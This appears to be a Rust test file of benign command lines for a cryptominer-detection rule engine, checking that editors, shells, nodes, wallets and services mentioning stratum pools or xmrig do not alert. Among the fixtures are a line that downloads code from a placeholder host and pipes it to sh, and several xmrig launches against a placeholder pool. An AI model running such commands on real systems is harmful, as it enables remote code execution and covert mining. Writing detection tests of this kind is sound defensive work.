//! Command lines that are no miner's, also when their process stays for ever.
use super::*;

/// Path of the executable, and arguments.
const LINES: [(&str, &str); 88] = [
    // Search, editors, pagers for a miner's words.
    ("/usr/bin/grep", "grep|-r|stratum+tcp://pool.example:3333|/"),
    ("/usr/bin/grep", "grep|-rE|stratum\\+(tcp|ssl)://|/srv"),
    ("/usr/bin/rg", "rg|stratum+ssl://pool.example:443"),
    ("/usr/bin/vim.basic", "vim|/opt/xmrig/config.json"),
    ("/usr/bin/nano", "nano|pools.txt"),
    ("/usr/bin/less", "less|config.json"),
    ("/usr/bin/tail", "tail|-f|/var/log/xmrig.log"),
    ("/usr/bin/watch", "watch|grep|--donate-level|--rig-id|notes"),
    ("/usr/bin/journalctl", "journalctl|-f|-u|xmrig"),
    ("/usr/bin/ps", "ps|-C|xmrig|-o|pid,args"),
    ("/usr/bin/pgrep", "pgrep|-f|xmrig -o stratum+tcp://pool.example:3333"),
    // Shells and what starts others.
    ("/usr/bin/dash", "sh|-c|exec xmrig -o pool.example:3333 -u {XMR} --donate-level 1"),
    ("/usr/bin/bash", "bash|./mine.sh|-o|stratum+tcp://pool.example:3333|-u|{XMR}"),
    ("/usr/bin/bash", "-bash"),
    ("/usr/bin/busybox", "sh|-c|wget -O- http://pool.example/x | sh"),
    ("/usr/bin/sudo", "sudo|xmrig|-o|stratum+tcp://pool.example:3333|-u|{XMR}|-k|--donate-level|1"),
    ("/usr/bin/timeout", "timeout|1h|xmrig|-o|pool.example:3333|-u|{XMR}"),
    ("/usr/bin/screen", "SCREEN|-dmS|m|./xmrig|-o|stratum+tcp://pool.example:3333"),
    ("/usr/bin/tmux", "tmux|new|-d|./xmrig --donate-level 1 --rig-id a -o pool.example:3333"),
    ("/usr/bin/nice", "nice|-n19|minerd|-a|scrypt|-o|stratum+tcp://pool.example:3333"),
    ("/usr/bin/cpulimit", "cpulimit|-l|50|--|xmrig|-o|pool.example:3333|-u|{XMR}"),
    ("/usr/bin/strace", "strace|-f|-o|trace.txt|xmrig|--donate-level=1|--randomx-1gb-pages"),
    ("/usr/bin/systemd-run", "systemd-run|--scope|xmrig|-o|stratum+ssl://pool.example:443"),
    ("/tini", "/tini|--|/xmrig/xmrig|-o|stratum+tcp://pool.example:3333"),
    ("/usr/bin/dumb-init", "dumb-init|--|xmrig|--rig-id=a|--donate-level=0|-o|pool.example:3333"),
    // Clients of what runs elsewhere.
    ("/usr/bin/docker", "docker|run|metal3d/xmrig|-o|stratum+tcp://pool.example:3333|-u|{XMR}"),
    ("/usr/bin/podman", "podman|run|--rm|image|-o|stratum+tcp://pool.example:3333"),
    ("/usr/local/bin/kubectl", "kubectl|run|x|--image=xmrig|--|-o|stratum+tcp://pool.example:3333"),
    ("/usr/bin/ssh", "ssh|host|xmrig|-o|stratum+tcp://pool.example:3333|-u|{XMR}"),
    (
        "/usr/bin/python3.11",
        "python3|/usr/bin/ansible-playbook|-e|pool=stratum+tcp://pool.example:3333|site.yml",
    ),
    ("/usr/bin/srun", "srun|-n1|xmrig|--donate-level|1|--rig-id|a"),
    ("/usr/bin/git", "git|commit|-m|xmrig: --donate-level 1 --rig-id a"),
    ("/usr/bin/curl", "curl|-o|pool.json|https://pool.example/api/stats/{XMR}"),
    ("/usr/bin/curl", "curl|-v|-u|{XMR}:x|-o|pool.example:3333|http://pool.example:3333"),
    ("/usr/bin/wget", "wget|https://github.com/xmrig/xmrig/releases/download/v6.26.0/xmrig.tar.gz"),
    ("/usr/bin/nc.openbsd", "nc|pool.example|3333"),
    ("/usr/bin/openssl", "openssl|s_client|-connect|pool.example:443"),
    ("/usr/bin/make", "make|-C|xmrig|WITH_RANDOMX=1|-j8"),
    ("/usr/bin/cmake", "cmake|-DWITH_KAWPOW=OFF|-DWITH_RANDOMX=ON|.."),
    ("/usr/bin/apt-get", "apt-get|install|xmrig|cpuminer"),
    ("/usr/bin/python3.11", "python3|/usr/bin/pip3|install|pyrx"),
    // Nodes, wallets, pools.
    ("/usr/bin/bitcoind", "bitcoind|-server|-rpcuser=me|-rpcpassword=x|-conf=/etc/bitcoin.conf"),
    (
        "/usr/bin/bitcoin-cli",
        "bitcoin-cli|-rpcconnect=10.0.0.1:8332|getblocktemplate|{\"rules\":[\"segwit\"]}",
    ),
    ("/usr/local/bin/bitcoin-cli", "bitcoin-cli|generatetoaddress|101|{BTC}"),
    (
        "/usr/bin/monerod",
        "monerod|--non-interactive|--rpc-bind-ip|0.0.0.0|--confirm-external-bind|--zmq-pub|tcp://127.0.0.1:18083",
    ),
    (
        "/usr/bin/monero-wallet-cli",
        "monero-wallet-cli|--daemon-address|node.example:18089|--wallet-file|mine|--password|x",
    ),
    (
        "/usr/bin/monero-wallet-rpc",
        "monero-wallet-rpc|--daemon-address|127.0.0.1:18081|--rpc-bind-port|18082|--rpc-login|u:p",
    ),
    ("/usr/bin/p2pool", "p2pool|--host|127.0.0.1|--wallet|{XMR}|--stratum|0.0.0.0:3333|--mini"),
    (
        "/opt/p2pool/p2pool",
        "p2pool|--host|127.0.0.1|--rpc-port|18081|--wallet|{XMR}|--stratum|127.0.0.1:3333",
    ),
    ("/usr/bin/geth", "geth|--http|--http.addr|0.0.0.0|--miner.etherbase|{ETH}|--datadir|/d"),
    (
        "/usr/local/bin/lighthouse",
        "lighthouse|bn|--suggested-fee-recipient|{ETH}|--execution-endpoint|http://localhost:8551",
    ),
    ("/usr/bin/python3", "python3|/usr/bin/electrum|daemon|-s|electrum.example:50002:s|-o"),
    ("/usr/bin/python3", "python3|/usr/bin/electrum|payto|{BTC}|0.1"),
    ("/usr/local/bin/cast", "cast|balance|--rpc-url|http://localhost:8545|{ETH}"),
    ("/usr/local/bin/kaspad", "kaspad|--utxoindex|--rpclisten=0.0.0.0:16110"),
    ("/usr/local/bin/dero-wallet-cli", "dero-wallet-cli|--daemon-address=127.0.0.1:10102|--wallet-file=w.db"),
    ("/usr/local/bin/ckpool", "ckpool|-B|-c|/etc/ckpool.conf|-l|7"),
    ("/usr/bin/node", "node|init.js|--config|config.json"),
    ("/usr/local/bin/kaspabridge", "ks_bridge|-log=true|-kaspa=localhost:16110|-stratum=:5555|-prom=:2114"),
    // Services with a server, a user, a password, an algorithm.
    ("/usr/sbin/nginx", "nginx|-c|/etc/nginx/nginx.conf|-g|daemon off;"),
    (
        "/usr/bin/prometheus",
        "prometheus|--config.file=/etc/prometheus/prometheus.yml|--web.listen-address=:9090",
    ),
    ("/usr/bin/node_exporter", "node_exporter|--web.config.file=web.yml"),
    ("/usr/bin/mysql", "mysql|-u|root|-psecret|-h|db.example|-P|3306"),
    ("/usr/bin/psql", "psql|-h|db|-p|5432|-U|me"),
    ("/usr/bin/ldapsearch", "ldapsearch|--url|ldap.example:389|--user|cn=x|--password|y"),
    ("/srv/app/server", "server|--pool|db.example:5432|--user|app|--password|x|--workers|8"),
    ("/srv/app/server", "server|--url|tcp://broker.example:1883|--user|app|--pass|x|--algorithm|argon2id"),
    ("/srv/app/proxy", "proxy|--server|10.0.0.1:443|--algo|round_robin"),
    ("/usr/bin/mosquitto_sub", "mosquitto_sub|-h|broker|-u|me|-P|x|-t|#"),
    ("/usr/bin/rclone", "rclone|mount|--config|/etc/rclone.conf|remote:|/mnt"),
    ("/usr/bin/restic", "restic|-r|sftp:user@host:/srv|--password-file|p.txt|backup|/"),
    ("/usr/bin/memcached", "memcached|-m|64|-p|11211|-u|memcache|-l|127.0.0.1|-c|1024|-a|0700"),
    ("/usr/bin/redis-server", "redis-server|127.0.0.1:6379"),
    (
        "/usr/bin/java",
        "java|-Xmx1g|-jar|/srv/app.jar|--server.port=8080|--spring.config.location=app.properties",
    ),
    ("/usr/bin/java", "java|-cp|a:b|org.example.Main|--url|jdbc:postgresql://db:5432/x|--user|me"),
    ("/usr/bin/python3", "python3|-u|-m|gunicorn|-c|gunicorn.conf.py|-b|0.0.0.0:8000|app:app"),
    ("/usr/bin/python3", "python3|train.py|--config|config.json|--coin|flip|--worker|4"),
    ("/usr/bin/node", "node|server.js|-p|3000|-u|x"),
    ("/home/me/app/app", "app|--benchmark|--threads|8"),
    ("/usr/bin/sysbench", "sysbench|cpu|--threads=8|--time=0|run"),
    ("/usr/bin/stress-ng", "stress-ng|--cpu|8|--cpu-method|all"),
    ("/usr/bin/hashcat", "hashcat|-a|0|-m|1400|hashes.txt|words.txt|-o|out.txt"),
    ("/usr/sbin/john", "john|--format=scrypt|--wordlist=w.txt|h.txt"),
    ("/usr/lib/chromium/chromium", "chromium|--disable-gpu|--no-sandbox|https://pool.example"),
    ("/usr/bin/qemu-system-x86_64", "qemu|-cpu|host|-m|8G|--mem-prealloc|-device|x"),
    ("/home/me/xmrig/xmrig", "xmrig|--bench=10M|-a|rx/0|--randomx-1gb-pages"),
    ("/home/me/m/tool", "tool|-a|mike|--dero"),
    ("/home/me/bin/backup", "backup|--donate-level|1"),
];

#[test]
fn none_is_a_sign_that_alerts() {
    for (path, line) in LINES {
        let matched = rules(path, line);
        assert!(matched.iter().all(|rule| *rule == "argv.wallet"), "{line}: {matched:?}");
    }
}

#[test]
fn a_lone_wallet_is_worth_twenty() {
    for line in ["payd|{XMR}", "payd|--to|{BTC}", "payd|--to={KAS}", "payd|XMR:{XMR}.rig"] {
        assert_eq!(rules("/usr/bin/payd", line), ["argv.wallet"], "{line}");
    }
    assert_eq!(rules("/usr/bin/payd", "payd|bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5"), [""; 0]);
    assert!(ARGV_WALLET.weight < crate::weigh::SUSPICIOUS);
}

#[test]
fn a_name_counts_in_folders_of_root_only() {
    let line = "vim|-o|stratum+tcp://pool.example:3333";
    assert_eq!(rules("/usr/bin/vim.basic", line), [""; 0]);
    for path in ["/home/me/vim", "/tmp/vim", "/dev/shm/sh", "/usr/bin/../../tmp/vim", "vim", "/memfd:vim/vim"]
    {
        assert_eq!(rules(path, line), ["argv.stratum-url"], "{path}");
    }
}
